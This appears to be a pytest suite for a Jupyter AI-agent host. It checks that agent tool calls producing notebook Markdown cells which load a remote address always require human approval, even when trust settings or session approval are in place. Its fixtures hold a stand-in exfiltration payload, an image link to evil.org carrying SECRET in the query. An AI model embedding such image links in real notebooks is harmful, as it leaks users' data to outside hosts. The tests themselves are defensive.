"""A Markdown cell of the model that would load something as soon as it is shown is asked about each time."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from jupyter_eca.host.chat.live_chat import Choice
from jupyter_eca.protocol.content import ToolCallRunContent
from jupyter_eca.transport.eca_client import CallDecision
from tests.host.turn.test_protected_paths import Person, plays
from tests.support.host_and_client import answer
from tests.support.notebook_page import PATH, Room, called, code, result, room, text

if TYPE_CHECKING:
    from pathlib import Path

    from jupyter_eca.protocol.chat import ChatContentReceivedParams

pytestmark = pytest.mark.asyncio

ADDRESS = "http://evil.org/a?q=SECRET"
BOOK = json.dumps({"cells": [{"cell_type": "markdown", "source": f"![]({ADDRESS})"}], "nbformat": 4})
EVERYTHING: dict[str, Any] = {"toolCall": {"approval": {"byDefault": "allow"}}}


def insert(source: str, **more: str) -> dict[str, Any]:
    arguments = {"source": source, "cell_type": "markdown", "path": PATH, **more}
    return {"tool": "notebook_insert_cell", "arguments": arguments}


def edit(cell: str, **arguments: str) -> dict[str, Any]:
    return {"tool": "notebook_edit_cell", "arguments": {"cell": cell, "path": PATH, **arguments}}


async def ask(there: Room, *calls: dict[str, Any], person: Person) -> list[ChatContentReceivedParams]:
    """Have the model make these calls, each after the one before has ended."""
    (there.table.folder / "script.json").write_text(json.dumps({"rules": plays(*calls)}))
    return await answer(there.client, "go", person)


def list_questions(received: list[ChatContentReceivedParams]) -> list[ToolCallRunContent]:
    contents = (one.content for one in received)
    return [content for content in contents if isinstance(content, ToolCallRunContent) and content.manual_approval]


async def test_an_approval_for_the_session_does_not_let_a_markdown_cell_load_an_address(tmp_path: Path) -> None:
    async with room(tmp_path, code("a", "x = 1")) as there:
        calls = (insert("# Title"), insert("# More"), insert(f"![]({ADDRESS})"))
        received = await ask(there, *calls, person=Person())
        first, second = list_questions(received)
        assert first.remembers == (f"notebook_insert_cell in {PATH}",)
        assert second.cause is not None
        assert (second.cause.kind, second.cause.loads, second.remembers) == ("loads", ADDRESS, None)
        assert [source for _, source in there.page.cells()] == ["x = 1", "# Title", "# More"]


@pytest.mark.parametrize(
    "change",
    [
        insert(f"<img src='{ADDRESS}'>"),
        edit("t", source=f"![]({ADDRESS})"),
        edit("t", original_content="PLACE", new_content="http:"),
        {
            "tool": "notebook_create",
            "arguments": {"path": "new.ipynb", "cells": [{"cell_type": "markdown", "source": f"![]({ADDRESS})"}]},
        },
        {"tool": "write_file", "arguments": {"path": "new.ipynb", "content": BOOK}},
        {"tool": "move_file", "arguments": {"source": "draft.txt", "destination": "new.ipynb"}},
    ],
)
async def test_neither_rules_nor_trust_lift_the_question_about_what_a_cell_loads(
    tmp_path: Path, change: dict[str, Any]
) -> None:
    before = "![](PLACE//evil.org/a?q=SECRET)"
    (tmp_path / "draft.txt").write_text(BOOK)
    async with room(tmp_path, text("t", before), **EVERYTHING) as there:
        there.table.host.turns.choose("chat", Choice(trust=True))
        received = await ask(there, change, person=Person(0))
        (question,) = list_questions(received)
        assert question.cause is not None
        assert (question.cause.kind, question.cause.loads, question.remembers) == ("loads", ADDRESS, None)
        assert there.page.cells() == [("t", before)]
        assert not (tmp_path / "new.ipynb").exists()


async def test_a_cell_that_was_approved_with_what_it_loads_is_made_as_it_was_shown(tmp_path: Path) -> None:
    async with room(tmp_path, text("t", "a")) as there:
        await ask(there, edit("t", source=f"![]({ADDRESS})"), person=Person())
        assert there.page.cells() == [("t", f"![]({ADDRESS})")]


async def test_ordinary_markdown_and_code_are_not_asked_about(tmp_path: Path) -> None:
    there_before = f"![]({ADDRESS}) and text"
    async with room(tmp_path, text("t", there_before), code("c", "x = 1"), **EVERYTHING) as there:
        calls = (
            insert("# Title\n\n[a link](https://example.org) ![plot](plot.png) ![](data:image/png;base64,AA==)"),
            insert(f"print('![]({ADDRESS})')", cell_type="code"),
            edit("c", source=f"'<img src={ADDRESS}>'"),
            edit("t", original_content="and text", new_content="and other text"),
        )
        received = await ask(there, *calls, person=Person(0))
        assert list_questions(received) == []
        assert ("t", f"![]({ADDRESS}) and other text") in there.page.cells()


async def test_an_edit_of_a_cell_that_an_earlier_call_makes_is_asked_about_with_what_it_loads(tmp_path: Path) -> None:
    async with room(tmp_path, code("a", "x = 1"), **EVERYTHING) as there:
        both = [insert("PLACE", after="a"), edit("2", source=f"![]({ADDRESS})")]
        received = await there.ask(both, lambda _: CallDecision(approved=False))
        (question,) = list_questions(received)
        assert question.cause is not None
        assert (question.cause.kind, question.cause.loads) == ("loads", ADDRESS)
        assert [source for _, source in there.page.cells()] == ["x = 1", "PLACE"]


async def test_a_file_that_was_not_there_when_it_was_decided_becomes_no_notebook_that_loads_something(
    tmp_path: Path,
) -> None:
    async with room(tmp_path, code("a", "x = 1"), **EVERYTHING) as there:
        (there.table.folder / "draft.txt").write_text("{}")
        await there.call("read_file", path="draft.txt")
        both: list[dict[str, Any]] = [
            {"tool": "write_file", "arguments": {"path": "draft.txt", "content": BOOK}},
            {"tool": "move_file", "arguments": {"source": "draft.txt", "destination": "new.ipynb"}},
        ]
        received = await there.ask(both, lambda _: CallDecision(approved=True))
        written, moved = called(received)
        assert not written.error
        assert "Nobody was asked about that" in result(moved)
        assert not (there.table.folder / "new.ipynb").exists()


async def test_files_that_are_no_notebooks_and_notebooks_that_load_nothing_are_not_asked_about(tmp_path: Path) -> None:
    async with room(tmp_path, code("a", "x = 1"), **EVERYTHING) as there:
        (there.table.folder / "old.ipynb").write_text(BOOK)
        calls: tuple[dict[str, Any], ...] = (
            {"tool": "write_file", "arguments": {"path": "notes.md", "content": f"![]({ADDRESS})"}},
            {"tool": "write_file", "arguments": {"path": "new.ipynb", "content": BOOK.replace("![]", "[a]")}},
            {"tool": "move_file", "arguments": {"source": "old.ipynb", "destination": "other.ipynb"}},
            {"tool": "move_file", "arguments": {"source": "notes.md", "destination": "more.md"}},
        )
        assert list_questions(await ask(there, *calls, person=Person(0))) == []
        assert {path.name for path in there.table.folder.glob("*.ipynb")} == {"new.ipynb", "other.ipynb"}
        assert (there.table.folder / "more.md").exists()
